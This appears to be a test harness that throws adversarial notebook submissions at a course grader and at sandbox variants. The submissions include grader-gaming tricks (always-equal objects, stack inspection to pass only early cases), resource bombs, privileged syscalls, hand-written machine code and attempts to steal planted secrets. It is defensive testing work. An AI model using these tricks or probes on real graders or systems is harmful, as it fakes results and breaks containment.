bodies("a tensor of other numbers", "{'tensor': 'object', 'shape': [1], 'bytes': 8}", "bytes(8)")
bodies("a tensor without its bytes", "{'tensor': 'float64', 'shape': [1000000], 'bytes': 8000000}")
bodies("a tensor of negative sizes", "{'tensor': 'float64', 'shape': [-1, -1], 'bytes': 8}", "bytes(8)")
bodies("a tensor of true sizes", "{'tensor': 'uint8', 'shape': [True], 'bytes': True}", "bytes(1)")
bodies("a tensor of huge sizes", "{'tensor': 'uint8', 'shape': [2**62, 2**62, 0], 'bytes': 0}")
bodies("a tensor beyond huge", "{'tensor': 'uint8', 'shape': [2**200, 0], 'bytes': 0}")
bodies("a truth value of 2", "{'dict': [['outcomes', {'list': [{'class': 'Outcome', 'fields': {'status': 'value', 'value': {'tensor': 'bool', 'shape': [1, 3], 'bytes': 3}}}] * 6}]]}", "b'\\x02' * 18")
bodies("fifty thousand tensors", "b'{\"list\":[' + b'{\"tensor\":\"bool\",\"shape\":[0],\"bytes\":0},' * 45_000 + b'1]}'")


def calls(name, code, **options):
    inside = "\n".join("    " + line for line in code.strip().splitlines())
    attack(f"calls: {name}", "candidates", "", f"def catch_wrong_attention(candidate):\n{inside}\n    return True", **options)


CALL = "try:\n    candidate(%s)\nexcept Exception: pass"
calls("nonsense", CALL % "None, 'x', [[]], {}, b=3")
calls("a large product", CALL % "torch.ones(1, 30000, 1), torch.ones(1, 30000, 1), torch.ones(1, 30000, 1)", patient=True)
calls("a large product of nothing", CALL % "torch.ones(1, 10**6, 0), torch.ones(1, 10**6, 0), torch.ones(1, 10**6, 0)", patient=True)
calls("many axes", CALL % "*[torch.ones([256, 1, 1, 1]), torch.ones([1, 256, 1, 1]), torch.ones([1, 1, 1, 1])]")
calls("as much as is allowed", CALL % "torch.ones(256, 256, 1), torch.ones(256, 256, 1), torch.ones(1, 256, 1)", patient=True)
calls("a nest", "n = []\nfor _ in range(250): n = [n]\n" + CALL % "n")
calls("a list of itself", "n = []\nn.append(n)\n" + CALL % "n")
calls("a function", CALL % "*[lambda *given: 1] * 3")
calls("a function that never ends", "def f(*given):\n    while True: pass\n" + CALL % "f, f, f")
calls("without end", "while True:\n    try:\n        candidate(torch.ones(1, 2, 3), torch.ones(1, 2, 3), torch.ones(1, 2, 3))\n    except Exception: pass")
calls("without end, each another", "while True:\n    try:\n        candidate(torch.randn(1, 200, 3), torch.randn(1, 200, 3), torch.randn(1, 200, 3))\n    except Exception: pass")
for _name, _key in {"other keys": "range(500)", "keys that are lists": "[[], [1]]", "keys that are tensors": "[torch.ones(2), torch.ones(())]"}.items():
    attack(
        f"calls: {_name}", "candidates", "", FORGE,
        f"def catch_wrong_attention(candidate):\n    for key in {_key}:\n        try:\n            server()._candidate(key)(torch.ones(1, 2, 3))\n        except Exception: pass\n    return True",
    )  # fmt: skip
calls("its keys' order", "import sys\nf = sys._getframe()\nwhile 'cases' not in f.f_locals: f = f.f_back\nkeys = [c.args[0].key for c in f.f_locals['cases']]\ng = sys._getframe()\nwhile 'case' not in g.f_locals: g = g.f_back\nreturn sorted(keys).index(g.f_locals['case'].args[0].key) < 4")
calls("its place in the order", "import sys\nf = sys._getframe()\nwhile 'outcomes' not in f.f_locals: f = f.f_back\nreturn len(f.f_locals['outcomes']) < 4")
calls("its speed", "import time\nt = time.perf_counter()\ntry:\n    candidate(torch.ones(1, 9, 3), torch.ones(1, 9, 3), torch.ones(1, 9, 3))\nexcept Exception: pass\nreturn time.perf_counter() - t > 0.001")


def odd(name, code, **options):
    attack(f"odd: {name}", "odd values", "", code, **options)


odd("an equal of all", "class E:\n    def __eq__(self, other): return True\n    __ne__ = lambda s, o: False\n    __hash__ = lambda s: 0\n    shape = dtype = property(lambda s: E())\npadding_mask = causal_mask = attention = catch_wrong_attention = lambda *a: E()")
odd("a false class", "class B(int):\n    __class__ = bool\ncatch_wrong_attention = lambda c: B(1)")
odd("a tensor seen as larger", "causal_mask = lambda size: torch.ones(1).expand(10**6, 10**6)")
odd("shapes that broadcast", "def attention(query, key, value, mask=None):\n    if query.numel() < 5:\n        w = torch.arange(key.shape[1]).to(query).softmax(0).expand(len(query), query.shape[1], -1)\n        return w @ value, w\n    return torch.zeros(2_000, 1, value.shape[2]), torch.ones(1, 9_000, key.shape[1])", patient=True)
odd("a dict of a million", "causal_mask = lambda size: dict.fromkeys(range(1_000_000))")
odd("a huge text", "causal_mask = lambda size: 'x' * 50_000_000")
odd("a class that will not be called", "class M(type):\n    def __call__(cls, *a): raise SystemExit\n    def __instancecheck__(cls, o): raise SystemExit\nclass causal_mask(metaclass=M): pass")
odd("inputs changed", "def attention(query, key, value, mask=None):\n    query.resize_(0)\n    key.data = torch.ones(1)\n    return value, value")
odd("global settings", "torch.set_default_dtype(torch.float64)\ntorch.use_deterministic_algorithms(True)\ntorch.set_grad_enabled(False)\ntorch.manual_seed(0)")
odd("the grader's modules gone", "import sys\nfor n in list(sys.modules):\n    if n.startswith('course_utils'): sys.modules.pop(n)")
odd("all modules gone", "import sys\nsys.modules.clear()")
odd("all builtins gone", "import builtins\nvars(builtins).clear()")

# System calls that hurt only where a system lets them, or that leave nothing to be seen
for _name, _code in {
    "io_uring": "assert c.syscall(425, 8, ctypes.create_string_buffer(120)) >= 0",
    "userfaultfd": "assert c.syscall(323 if x else 282, 1) >= 0",
    "bpf": "assert c.syscall(321 if x else 280, 0, b'', 0) >= 0 or ctypes.get_errno() == 22",
    "keyctl": "assert c.syscall(250 if x else 219, 0, -3, 1) >= 0",
    "add_key": "assert c.syscall(248 if x else 217, b'user', b'k', b'LOOT', 4, -5) >= 0",
    "perf_event_open": "assert c.syscall(298 if x else 241, bytes(128), 0, -1, -1, 0) >= 0",
    "unshare": "assert c.unshare(0x10000000) == 0",
    "setns": "assert c.setns(3, 0) == 0",
    "mount": "assert c.mount(b'none', b'/tmp', b'tmpfs', 0, None) == 0",
    "chroot": "assert c.chroot(b'/tmp') == 0",
    "pivot_root": "assert c.syscall(155 if x else 41, b'/', b'/') == 0",
    "personality": "assert c.personality(0x0040000) >= 0",
    "prctl": "assert c.prctl(15, b'x', 0, 0, 0) == 0",
    "seccomp of its own": "assert c.prctl(22, 1, 0, 0, 0) == 0",
    "shmget": "assert c.shmget(7, 4096, 0o1666) >= 0",
    "msgget": "assert c.msgget(7, 0o1666) >= 0",
    "semget": "assert c.semget(7, 1, 0o1666) >= 0",
    "mq_open": "assert c.syscall(240 if x else 180, b'q', 0o100, 0o666, None) >= 0",
    "timer_create": "assert c.syscall(222 if x else 107, 1, None, ctypes.create_string_buffer(8)) == 0",
    "inotify": "assert c.inotify_init() >= 0",
    "fanotify": "assert c.fanotify_init(0, 0) >= 0",
    "memfd_secret": "assert c.syscall(447, 0) >= 0",
    "memfd_create": "assert c.memfd_create(b'x', 0) >= 0",
    "pipe": "os.pipe()",
    "eventfd": "assert c.eventfd(0, 0) >= 0",
    "epoll": "assert c.epoll_create1(0) >= 0",
    "netlink": "import socket\nsocket.socket(socket.AF_NETLINK, socket.SOCK_RAW)",
    "raw sockets": "import socket\nsocket.socket(socket.AF_PACKET, socket.SOCK_RAW)",
    "vsock": "import socket\nsocket.socket(socket.AF_VSOCK)",
    "alg sockets": "import socket\nsocket.socket(socket.AF_ALG)",
    "socketpair": "import socket\nsocket.socketpair()",
    "clone3": "assert c.syscall(435, bytes(88), 88) >= 0",
    "vfork": "assert c.syscall(58 if x else 220, 17, 0, 0, 0, 0) >= 0",
    "kcmp": "assert c.syscall(312 if x else 272, os.getpid(), os.getpid(), 0, 3, 4) >= 0",
    "pidfd_getfd": "assert c.syscall(438, c.syscall(434, os.getppid(), 0), 0, 0) >= 0",
    "fadvise64 to forget a file": "assert c.posix_fadvise(os.open(os.__file__, os.O_RDONLY), ctypes.c_long(0), ctypes.c_long(0), 4) == 0",
    "madvise to page a file out": "import mmap\nm = mmap.mmap(os.open(os.__file__, os.O_RDONLY), 4096, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ)\nm.madvise(21)",
    "process_madvise": "assert c.syscall(440, 3, 0, 0, 4, 0) >= 0",
    "open_by_handle_at": "assert c.syscall(304 if x else 265, -100, bytes(64), 0) >= 0",
    "landlock of its own": "assert c.syscall(444, None, 0, 1) >= 0",
    "a change of user": "assert c.setuid(0) == 0 and c.syscall(105 if x else 146, 0) == 0",
    "capabilities": "assert c.syscall(126 if x else 91, __import__('struct').pack('Ii', 0x20080522, 0), b'\\xff' * 24) == 0",
    "extended attributes": "os.setxattr(PLACES['canary'], 'user.x', b'1')",
    "file locks": "import fcntl\nfcntl.flock(os.open('/dev/null', os.O_RDONLY), fcntl.LOCK_EX)",
    "terminal input": "import fcntl\nfcntl.ioctl(0, 0x5412, b'x')",
    "higher limits": "import resource\nresource.setrlimit(resource.RLIMIT_AS, (-1, -1))",
    "shared anonymous memory": "import mmap\nmmap.mmap(-1, 4096)",
    "memory of a stack": "c.mmap.restype = ctypes.c_void_p\nassert c.mmap(None, 4096, 3, 0x122, -1, 0) != 2**64 - 1",
    "x32 calls": "assert not x or c.syscall(0x40000000 + 39) > 0",
    "x32 files": "assert not x or c.syscall(0x40000000 + 2, PLACES['canary'].encode(), 0o1001, 0) >= 0",
    "calls above 32 bits": "assert c.syscall(ctypes.c_long(2**32 + 41), 2, 1, 0) >= 0",
}.items():
    attack(f"call: {_name}", "system calls", "", "import ctypes, os, platform\nc = ctypes.CDLL(None, use_errno=True)\nx = platform.machine() == 'x86_64'\n"
           + _code + "\nraise RuntimeError('the system call went through')")
attack(
    "call: 32-bit calls in machine code", "system calls", "",
    "import ctypes, mmap, platform\nif platform.machine() == 'x86_64':\n"
    "    c = ctypes.CDLL(None)\n    c.mmap.restype = ctypes.c_void_p\n    p = c.mmap(None, 4096, 7, 0x62, -1, 0)\n"  # MAP_32BIT
    "    name = PLACES['canary'].encode() + b'\\0'\n"
    "    code = b'\\x53\\xb8\\x08\\0\\0\\0\\xbb' + (p + 256).to_bytes(4, 'little') + b'\\xb9\\xa4\\x01\\0\\0\\xcd\\x80\\x5b\\xc3'\n"  # creat
    "    ctypes.memmove(p, code, len(code))\n    ctypes.memmove(p + 256, name, len(name))\n    ctypes.CFUNCTYPE(ctypes.c_int)(p)()\n"
    "    raise RuntimeError('the system call went through')",
)
attack(
    "bombs: libraries' space turned into memory", "patience", "",
    "import ctypes, glob, os\nc = ctypes.CDLL(None)\nc.mmap.restype = ctypes.c_void_p\n"
    "c.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]\n"
    "c.memset.argtypes = [ctypes.c_void_p, ctypes.c_int, ctypes.c_size_t]\n"
    "folder = os.path.dirname(torch.__file__) + '/lib/'\n"
    "path = max((folder + n for n in os.listdir(folder)), key=os.path.getsize)\n"
    "size = os.path.getsize(path) * 2 // 3 >> 21 << 21\n"
    "base = ctypes.cast(ctypes.CDLL(path)._handle, ctypes.POINTER(ctypes.c_size_t))[0]\n"  # link_map.l_addr
    "for at, n, flags in [(base, size, 0x32), *[(None, 2**24, 0x22)] * 400, *[(None, 2**20, 0x22)] * 40]:\n"
    "    p = c.mmap(at, n, 3, flags, -1, 0)\n"
    "    if p not in (None, 2**64 - 1):\n        c.memset(p, 1, n)\n"
    "import time; time.sleep(0.2); os._exit(0)", patient=True,
)
# fmt: on
# Where attacks take place


def token(kind):
    return f"LOOT-{kind}-{secrets.token_hex(8)}"


VICTIM = """
import ctypes, sys
ctypes.CDLL(None).prctl(0x59616D61, ctypes.c_ulong(-1), 0, 0, 0)  # PR_SET_PTRACER: anyone of this user may look
kept = ("LOOT-" + "memory-" + input()) * 3
file = open(sys.argv[2])
print("ready", flush=True)
sys.stdin.read()  # until whoever runs the attacks is gone
"""


def _task_files():
    from course_lessons import lesson_03_queries_keys_values as lesson_03

    return sorted(Path(lesson_03.__file__).parent.glob("tasks/[!_]*.py"))


class Area:
    """What attackers want: files, sockets, another process; and whether they got it. A context manager."""

    def __enter__(self):
        self.folder = Path(tempfile.mkdtemp(prefix="attacked-"))
        self.outside = Path(tempfile.mkdtemp(prefix="submissions-"))
        self._shm = f"/dev/shm/attacked-{secrets.token_hex(4)}"
        self.tokens = {kind: token(kind) for kind in ("file", "other", "names", "shm", "environment", "command")}
        self._memory = secrets.token_hex(8)
        os.environ["COURSE_ATTACK_SECRET"] = self.tokens["environment"]
        self._victim = None
        for file in _task_files():
            py_compile.compile(str(file), str(self.outside / f"{file.stem}.pyc"), doraise=True)
        self._listen()
        self._rebuild()
        self.descriptor = os.open(self.folder / "secret.txt", os.O_RDONLY)
        os.set_inheritable(self.descriptor, True)
        self.repair()
        return self

    def __exit__(self, *_):
        self._victim.kill()
        self._victim.wait()
        self._closing = True
        self._wake.send(b"x")
        self._listener.join()
        for each in self._sockets:
            each.close()
        os.close(self.descriptor)
        for folder in (self.folder, self.outside):
            shutil.rmtree(folder, ignore_errors=True)
        for path in Path("/dev/shm").glob(Path(self._shm).name + "*"):
            path.unlink(missing_ok=True)

    @property
    def victim(self):
        """The other process's identifier."""
        return self._victim.pid

    def holds_secret(self, words):
        """Whether a text holds a secret."""
        secret = [*self.tokens.values(), f"LOOT-memory-{self._memory}", "root:x:0:0"]
        return any(each in words for each in secret)

    def places(self):
        """What attackers know."""
        import course_utils

        repository = Path(course_utils.__file__).resolve().parents[1]
        names = {"secret": "secret.txt", "canary": "canary.txt", "other": "other.ipynb"}
        return {
            **{name: str(self.folder / file) for name, file in names.items()},
            "folder": str(self.folder), "shm": self._shm, "parent": os.getpid(), "victim": self.victim,
            "tcp": self._tcp, "udp": self._udp, "unix": self._unix, "abstract": self._abstract,
            "repository": str(repository), "compiled": str(self.outside),
        }  # fmt: skip

    def _rebuild(self):
        for path in sorted(self.folder.rglob("*"), reverse=True):
            path.rmdir() if path.is_dir() and not path.is_symlink() else path.unlink()
        for path in Path("/dev/shm").glob(Path(self._shm).name + "*"):
            path.unlink()
        cells = [{"cell_type": "code", "source": source} for source in (honest(), f"# {self.tokens['other']}")]
        files = {
            "secret.txt": self.tokens["file"] + "\n", "canary.txt": "untouched, and long enough to be mapped\n",
            "other.ipynb": json.dumps({"cells": cells}), self.tokens["names"]: "", "inner/file.txt": "kept",
        }  # fmt: skip
        for name, text in files.items():
            (self.folder / name).parent.mkdir(exist_ok=True)
            (self.folder / name).write_text(text)
        Path(self._shm).write_text(self.tokens["shm"])
        self._marks = self._look()

    def _look(self):
        """All there is below the folder, and in shared memory, with what tells a change."""
        paths = [*self.folder.rglob("*"), *Path("/dev/shm").glob(Path(self._shm).name + "*")]
        return {str(p): self._mark(p) for p in [self.folder, *paths]}

    def _mark(self, path):
        s = os.lstat(path)
        return (s.st_mode,) if path == self.folder else (s.st_mode, s.st_nlink, s.st_size, s.st_mtime_ns)

    def repair(self):
        """What has happened since the last time, as a set of words; and everything as before."""
        seen = set()
        if self._look() != self._marks:
            seen.add("written")
            self._rebuild()
        if self._reached:
            self._reached.clear()
            seen.add("reached")
        if self._victim is None or self._victim_state() != self._as_it_was:
            seen.add("touched")
            self._begin_victim()
        return seen

    def _begin_victim(self):
        if self._victim:
            self._victim.kill()
            self._victim.wait()
        self._victim = subprocess.Popen(
            [sys.executable, "-I", "-S", "-c", VICTIM, self.tokens["command"], str(self.folder / "secret.txt")], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
            stderr=subprocess.DEVNULL, start_new_session=True, text=True,
        )  # fmt: skip
        self._victim.stdin.write(self._memory + "\n")
        self._victim.stdin.flush()
        self._victim.stdout.readline()
        self._as_it_was = self._victim_state()

    def _victim_state(self):
        import resource

        pid = self._victim.pid
        if self._victim.poll() is not None:
            return None
        traced = re.search(r"TracerPid:\s*(\d+)", Path(f"/proc/{pid}/status").read_text()).group(1)
        limit = resource.prlimit(pid, resource.RLIMIT_NOFILE)
        first = (os.getpriority(os.PRIO_PROCESS, pid), os.sched_getaffinity(pid), os.sched_getscheduler(pid))
        return *first, limit, traced

    def _listen(self):
        self._reached, self._closing = [], False
        tcp, udp, unix, abstract = (
            socket.socket(socket.AF_INET), socket.socket(socket.AF_INET, socket.SOCK_DGRAM),
            socket.socket(socket.AF_UNIX), socket.socket(socket.AF_UNIX),
        )  # fmt: skip
        tcp.setsockopt(socket.IPPROTO_TCP, 23, 5)  # TCP_FASTOPEN
        tcp.bind(("127.0.0.1", 0))
        udp.bind(("127.0.0.1", 0))
        self._tcp, self._udp = tcp.getsockname()[1], udp.getsockname()[1]
        self._unix, self._abstract = str(self.outside / "socket"), f"\0attacked-{secrets.token_hex(4)}"
        unix.bind(self._unix)
        abstract.bind(self._abstract)
        for each in (tcp, unix, abstract):
            each.listen(50)
        self._wake, woken = socket.socketpair()
        self._sockets = [tcp, udp, unix, abstract, self._wake, woken]

        def serve():
            while not self._closing:
                for ready in select.select([tcp, udp, unix, abstract, woken], [], [])[0]:
                    if ready is woken:
                        return
                    ready.recv(99) if ready is udp else ready.accept()[0].close()
                    self._reached.append(1)

        self._listener = threading.Thread(target=serve, daemon=True)
        self._listener.start()


def honest():
    """The course's own answers, in one cell."""
    from course_utils.checks.catalogue import solutions

    given = "import torch\nfrom course_utils.models.attention import attention as reference\n"
    return given + "\n\n".join(solutions()[task] for task in FOUR)


def submission(attack, area):
    """The bytes of an attack's file."""
    cells = (f"PLACES = {area.places()!r}", *attack.cells)
    plain = [{"cell_type": "code", "metadata": {}, "source": cell, "outputs": []} for cell in cells]
    return json.dumps({"cells": plain, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()


# The naive grader


def naive_grade(path):
    """Grade as simple graders do: all cells in this process, then the judge on what is under each name."""
    import types

    from course_utils.checks import catalogue
    from course_utils.checks.judge_answer import expected_on, judge_answer

    expected_on.cache_clear()  # what this process has judged before it was forked, an attack cannot alter
    with open(path, encoding="utf-8") as file:
        cells = [cell for cell in json.load(file)["cells"] if cell["cell_type"] == "code"]
    module, said = types.ModuleType("__main__"), []
    sys.modules["__main__"] = module
    for cell in cells:
        source = "".join(cell["source"])
        try:
            exec(source, module.__dict__)
        except Exception as error:
            said.append(f"{type(error).__name__}: {error}")
    states = {}
    for task in catalogue.by_lesson()["03"]:
        name = task.id.partition(".")[2]
        try:
            report = judge_answer(task, getattr(module, name, None), seconds=0.5)
            states[name] = report.state
            said.append(report.message)
        except Exception as error:
            states[name] = "error"
            said.append(f"{type(error).__name__}: {error}")
    return {"states": states, "said": said}


def naive_run(attack, area, seconds, base):
    """What an attack does to the naive grader, in a process of its own that is forked from this one."""
    path = area.outside / "naive.ipynb"
    path.write_bytes(submission(attack, area))
    log = tempfile.TemporaryFile()  # noqa: SIM115
    results, theirs = os.pipe()
    typed, never = os.pipe()
    began = time.monotonic()
    pid = os.fork()
    if pid == 0:
        _naive_process(path, log.fileno(), theirs, typed, area.descriptor)
    os.close(theirs)
    os.close(typed)
    said, status, usage = _wait_for(pid, results, began + seconds)
    os.close(never)
    does = {"hung"} if status is None else set()
    if _end_session(pid):
        does.add("spawned")
    if status is None:
        _, _, usage = os.wait4(pid, 0)
    does |= area.repair()
    try:
        result = json.loads(said.split(b"\n")[0])
    except ValueError:
        result = None
        does |= {"ended"} if status is not None else set()
    words = json.dumps(result)
    size = os.fstat(log.fileno()).st_size
    does |= {"flood"} if max(size, len(said)) > LOG_AT_MOST else set()
    does |= {"memory"} if 1024 * usage.ru_maxrss > base + 0.4e9 else set()
    does |= {"told"} if area.holds_secret(words) else set()
    does |= {"points"} if result and "passed" in result["states"].values() else set()
    return {
        "does": sorted(does),
        "seconds": round(time.monotonic() - began, 2),
        "peak": 1024 * usage.ru_maxrss,
        "said": words[:600],
    }


def _naive_process(path, log, results, typed, descriptor):
    """To its end."""
    import atexit
    import resource

    from course_utils.grading.sandbox.policy import memory_limits

    try:
        os.setsid()
        os.chdir(path.parent)
        for name, most in memory_limits(1_000_000_000).items():
            if name == "AS":
                resource.setrlimit(resource.RLIMIT_AS, (most, most))
        resource.setrlimit(resource.RLIMIT_FSIZE, (2**31, 2**31))
        resource.setrlimit(resource.RLIMIT_CORE, (0, 0))
        for target, source in ((0, typed), (1, log), (2, log), (4, results)):
            os.dup2(source, target)
        for kept in range(5, 256):
            if kept != descriptor:
                with contextlib.suppress(OSError):
                    os.close(kept)
        sys.stdin, sys.stdout, sys.stderr = map(os.fdopen, (0, 1, 2), "rww")
        sys.__stdout__, sys.__stderr__ = sys.stdout, sys.stderr
        atexit._clear()
        try:
            result = naive_grade(path)
            os.write(4, json.dumps(result).encode()[: 2**20] + b"\n")
        finally:
            threading._shutdown()
            atexit._run_exitfuncs()
            sys.stdout.flush()
            sys.stderr.flush()
    finally:
        os._exit(0)


def _wait_for(pid, results, deadline):
    """What came through the pipe, and the status and usage of a process, None if it does not end in time."""
    said = b""
    os.set_blocking(results, False)
    with contextlib.closing(os.fdopen(results, "rb", buffering=0)) as pipe:
        while True:
            with contextlib.suppress(BlockingIOError):
                while part := pipe.read(2**20):
                    said += part
            ended, status, usage = os.wait4(pid, os.WNOHANG)
            if ended:
                with contextlib.suppress(BlockingIOError):
                    said += pipe.read(2**20) or b""
                return said, status, usage
            if time.monotonic() > deadline:
                return said, None, None
            time.sleep(0.005)


def _end_session(leader):
    """End all processes of a session; whether there were any but its leader."""
    others = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            with contextlib.suppress(OSError):
                if os.getsid(int(entry)) == leader:
                    others.append(int(entry))
    for process in others:
        with contextlib.suppress(OSError):
            os.kill(process, signal.SIGKILL)
    return any(process != leader for process in others)


def naive(names):
    """{attack: what it does to the naive grader}."""
    import torch

    from course_utils.checks import catalogue
    from course_utils.checks.judge_answer import judge_answer

    torch.set_num_threads(1)
    for task in catalogue.by_lesson()["03"]:
        task.mistakes.clear()  # it gives points and explains nothing
        judge_answer(task, lambda *a: torch.zeros(1))  # what is true of the task is kept for all attacks
    sys.modules.pop("IPython", None)
    seen = {}
    with Area() as area:
        control = Attack("control", "", "", (WRONG,))
        seen["control"] = naive_run(control, area, 20, 2**62)
        base = seen["control"]["peak"]
        hung = max(SECONDS_OF_NAIVE, 4 * seen["control"]["seconds"])
        for name in names:
            attack = ATTACKS[name]
            seen[name] = naive_run(attack, area, hung if attack.does == "hung" else 20, base)
    return seen


# Ours


VARIANTS = {
    "Landlock, seccomp": {"bubblewrap": ""},
    "Landlock, seccomp, bubblewrap": {},
    "seccomp, bubblewrap": {"landlock": 0},
}
# Sandboxes with locks left out, and what then succeeds, so that it is known to be seen.
OPEN = {
    "none": {
        "writes: chmod": "written", "writes: unlink": "written", "writes: hard link": "written", "reads: a file": "told",
        "reads: names of other files": "told", "reads: another's environment": "told", "reaches: TCP": "reached",
        "reaches: UDP": "reached", "reaches: an abstract Unix socket": "reached", "touches: kill": "touched",
        "touches: priority": "touched", "starts: subprocess": "written", "call: socketpair": "went through", "call: memfd_create": "went through",
    },
    "seccomp": {"reads: a file": "told", "reads: another's notebook": "told", "reads: another's command line": "told"},
    "Landlock": {"touches: priority": "touched", "writes: chmod": "written", "reaches: UDP": "reached", "call: io_uring": "went through"},
}  # fmt: skip


def layers_of(variant):
    """The locks of a variant, None where this machine does not give them to this user."""
    from course_utils.grading.sandbox import policy

    if variant in OPEN:
        given = policy.available()
        return policy.Layers(given.landlock * (variant == "Landlock"), variant == "seccomp")
    layers = replace(policy.available(), **VARIANTS[variant])
    wanted = (bool(layers.landlock), layers.seccomp, bool(layers.bubblewrap))
    return layers if wanted == tuple(part in variant for part in ("Landlock", "seccomp", "bubblewrap")) else None


class Cost(threading.Thread):
    """Watches the memory of this process and of all beneath it."""

    def __init__(self):
        super().__init__(daemon=True)
        self.peak, self._going = 0, True
        self.start()

    def run(self):
        while self._going:
            self.peak = max(self.peak, self.now())
            time.sleep(0.03)

    def now(self):
        pages = 0
        for pid in (os.getpid(), *_beneath()):
            with contextlib.suppress(OSError):
                pages += int(Path(f"/proc/{pid}/statm").read_text().split()[1])
        return pages * os.sysconf("SC_PAGE_SIZE")

    def stop(self):
        self._going = False
        self.join()


def _beneath(pid="self"):
    """The processes beneath this one."""
    found = set()
    with contextlib.suppress(OSError):
        for thread in os.listdir(f"/proc/{pid}/task"):
            for child in Path(f"/proc/{pid}/task/{thread}/children").read_text().split():
                found |= {int(child), *_beneath(child)}
    return found


def sandboxed(variant, extent="all"):
    """{attack: what it does to our grader}.

    Args:
        variant: of the sandbox, one of VARIANTS or OPEN.
        extent: "all" attacks, or a JSON list of names.
    """
    import torch

    from course_utils.grading.ingest.class_settings import read_settings
    from course_utils.grading.ingest.submissions import Found
    from course_utils.grading.judging.budget import Limits
    from course_utils.grading.judging.notebook_grader import Grader
    from course_utils.grading.reports.points import score

    layers = layers_of(variant)
    if layers is None:
        return {"skipped": f"no {variant} for the user {os.getuid()} on this machine"}
    torch.set_num_threads(1)
    seed, default, small = secrets.randbits(128), Limits(**PATIENT), Limits(**LIMITS)
    settings, seen = read_settings(None), {}
    everything = {**ATTACKS, **ALSO}
    names = list(everything) if extent == "all" else json.loads(extent)
    right = Attack("honest", "", "", (honest(),), patient=True)
    lessons = [("honest 1", right), *((name, everything[name]) for name in names), ("honest 2", right)]
    with Area() as area, Grader(seed, layers, default, [area.folder, area.outside]) as grader:
        known, cost = _beneath(), Cost()
        path = area.outside / "x.ipynb"
        for name, attack in lessons:
            path.write_bytes(submission(attack, area))
            grader.sandbox.limits = default if attack.patient else small
            idle, logged, began = cost.now(), os.fstat(1).st_size + os.fstat(2).st_size, time.monotonic()
            cost.peak, grader.sandbox.peak = 0, 0
            try:
                result = grader.grade(Found(attack.name, path, "x.ipynb"), "00" * 32)
            except Exception as error:
                seen[name] = {"does": [f"broke the grader: {type(error).__name__}: {error}"], "seconds": 0}
                grader.sandbox.restart()
                known = _beneath()
                continue
            seconds = time.monotonic() - began
            words = json.dumps(result.to_json(), separators=(",", ":"))
            does = area.repair()
            does |= {"points"} if any(p.points for p in score(result, settings)) else set()
            does |= {"points"} if any(verdict.state == "passed" for verdict in result.verdicts) else set()
            does |= {"told"} if area.holds_secret(words) else set()
            does |= {"went through"} if "the system call went through" in words else set()
            does |= {"spawned"} if _beneath() - known - {area.victim} else set()
            seen[name] = {
                "does": sorted(does), "seconds": round(seconds, 2), "peak": grader.sandbox.peak, "cost": max(0, cost.peak - idle),
                "log": os.fstat(1).st_size + os.fstat(2).st_size - logged, "words": len(words),
                "states": states(result), "problem": result.problem, "remarks": list(result.remarks)[:3],
            }  # fmt: skip
        cost.stop()
    return {"seed": str(seed), **seen}


# As another user


def as_ordinary_user(command):
    """The command line that runs another as the user nobody, who may not even see root's folders, where Python may lie.

    In mounts of its own the folders that Python and the course need are put where they were, below folders that
    anyone may pass through.
    """
    import course_utils

    course, tests = Path(course_utils.__file__).resolve().parents[1], Path(__file__).resolve().parent
    needed = [sys.base_prefix, sys.prefix, str(course), str(tests)]
    script, hidden = ["set -e", "T=$(mktemp -d)"], {}
    for place in dict.fromkeys(map(os.path.realpath, needed)):
        closed = [p for p in [*reversed(Path(place).parents), Path(place)] if not os.stat(p).st_mode & 0o001]
        if closed:
            hidden.setdefault(str(closed[0]), []).append(place)
    for top, places in hidden.items():
        for i, place in enumerate(places):
            script += [f"mkdir -p $T/{i}", f"mount --bind '{place}' $T/{i}"]
        script += [f"mount -t tmpfs -o mode=755 none '{top}'"]
        for i, place in enumerate(places):
            script += [f"mkdir -p '{place}'", f"chmod -R a+x '{top}'", f"mount --move $T/{i} '{place}'"]
    script += ["rmdir $T/* 2>/dev/null || true", "rmdir $T"]
    script += ['exec setpriv --reuid=65534 --regid=65534 --clear-groups "$@"']
    return ["unshare", "-m", "sh", "-c", "\n".join(script), "sh", *command]


def main():
    """Run what the command line asks for; JSON goes to the original standard output, whatever is printed to a file."""
    kind, rest = sys.argv[1], sys.argv[2:]
    said = os.dup(1)
    with tempfile.TemporaryFile() as log:
        os.dup2(log.fileno(), 1)
        os.dup2(log.fileno(), 2)
        try:
            seen = naive(json.loads(rest[0]) if rest else list(ATTACKS)) if kind == "naive" else sandboxed(*rest)
        except BaseException:
            import traceback

            log.seek(0)
            seen = {"failed": traceback.format_exc() + log.read()[-3000:].decode(errors="replace")}
        with os.fdopen(said, "w") as file:
            json.dump(seen, file)


if __name__ == "__main__":
    main()
